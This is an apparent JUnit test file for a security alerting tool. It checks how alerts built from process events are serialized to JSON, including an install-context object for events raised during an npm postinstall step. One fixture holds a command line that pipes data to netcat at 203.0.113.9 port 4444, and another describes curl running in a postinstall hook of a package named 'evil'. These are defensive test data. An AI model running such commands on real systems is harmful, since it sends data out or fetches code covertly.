package dev.hookline.alert;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.hookline.io.EventJsonWriter;
import dev.hookline.rules.RuleLoader;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.util.List;
import org.junit.jupiter.api.Test;

class AlertJsonTest {
    @Test
    void anAlertCarryingItsEventJsonWritesTheSameLineAsOneThatSerializesTheEvent() throws Exception {
        RuleMeta meta = new RuleLoader().loadBuiltin().get(0).meta();
        Event e = new Event(Table.DeviceProcessEvents);
        e.set(Columns.ACTION_TYPE, "ProcessCreated");
        e.set(Columns.FILE_NAME, "sh");
        e.set(Columns.PROCESS_COMMAND_LINE, "sh -c \"echo \\\"ü\\\" | nc 203.0.113.9 4444\"\ttab");
        e.set(Columns.PROCESS_ID, 77);
        String json = EventJsonWriter.toJson(e);
        Object[] row = {"sh", 77L};
        Alert plain = new Alert(AlertIds.of("r", "a", e), meta, "a", List.of("FileName", "ProcessId"), row, e, 5L,
                List.of());
        Alert carried = new Alert(AlertIds.of("r", "a", json), meta, "a", List.of("FileName", "ProcessId"), row, e,
                5L, List.of(), json);
        assertEquals(plain.alertId(), carried.alertId());
        String line = AlertJson.toJson(plain);
        assertEquals(line, AlertJson.toJson(carried));
        assertTrue(line.contains("\"Event\":" + json), line);
    }

    @Test
    void anAlertOnARowUnderAnInstallStepNamesThePackageInItsTitleAndCarriesAnInstallContextObject() throws Exception {
        RuleMeta meta = new RuleLoader().loadBuiltin().get(0).meta();
        Event e = new Event(Table.DeviceProcessEvents);
        e.set(Columns.FILE_NAME, "curl");
        e.set(Columns.ADDITIONAL_FIELDS, "{\"InstallManager\":\"npm\",\"InstallPackage\":\"evil\","
                + "\"InstallVersion\":\"1.0.3\",\"InstallPhase\":\"postinstall\"}");
        Alert a = new Alert("id", meta, "a", List.of("FileName"), new Object[] {"curl"}, e, 5L, List.of());
        JsonNode j = new ObjectMapper().readTree(AlertJson.toJson(a));
        assertEquals(meta.title() + " (evil@1.0.3, npm postinstall)", j.path("AlertTitle").asText());
        assertEquals(meta.title(), j.path("RuleTitle").asText());
        assertEquals("{\"InstallManager\":\"npm\",\"InstallPackage\":\"evil\",\"InstallVersion\":\"1.0.3\","
                + "\"InstallPhase\":\"postinstall\"}", j.path("InstallContext").toString());

        e.set(Columns.ADDITIONAL_FIELDS, "{\"Argc\":3}");
        String plain = AlertJson.toJson(new Alert("id", meta, "a", List.of(), new Object[0], e, 5L, List.of()));
        assertFalse(plain.contains("InstallContext") || plain.contains("AlertTitle"), plain);
    }
}
